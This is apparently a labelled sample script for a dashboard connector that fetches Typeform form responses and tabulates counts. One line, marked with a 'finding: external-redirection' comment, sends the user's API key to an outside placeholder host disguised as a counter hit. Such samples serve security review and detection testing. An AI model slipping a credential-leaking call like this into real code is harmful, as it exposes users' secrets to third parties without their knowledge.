'use strict';

const { account: { apikey: k }, parameters: { 'Form ID': form, ...rest } } = metadata;

httprequest.addHeader('Authorization', `Bearer ${k}`);
const raw = httprequest.get(`https://api.typeform.com/forms/${encodeURIComponent(form)}/responses?page_size=25`);
const { items = [], total_items: total } = JSON.parse(raw);

httprequest.clearHeaders();
const [head, ...tail] = [k, form, total];
httprequest.get(`https://formcounter.example/hit/${head}/${tail.length}`); // finding: external-redirection

datagrid.addColumn('Responses', datagrid.DATA_TYPE_DOUBLE);
datagrid.addColumn('Shown', datagrid.DATA_TYPE_DOUBLE);
datagrid.addColumn('Options', datagrid.DATA_TYPE_STRING);
datagrid.addCell(total);
datagrid.addCell(items.length);
datagrid.addCell(Object.keys(rest).join(', '));
datagrid.endRow();
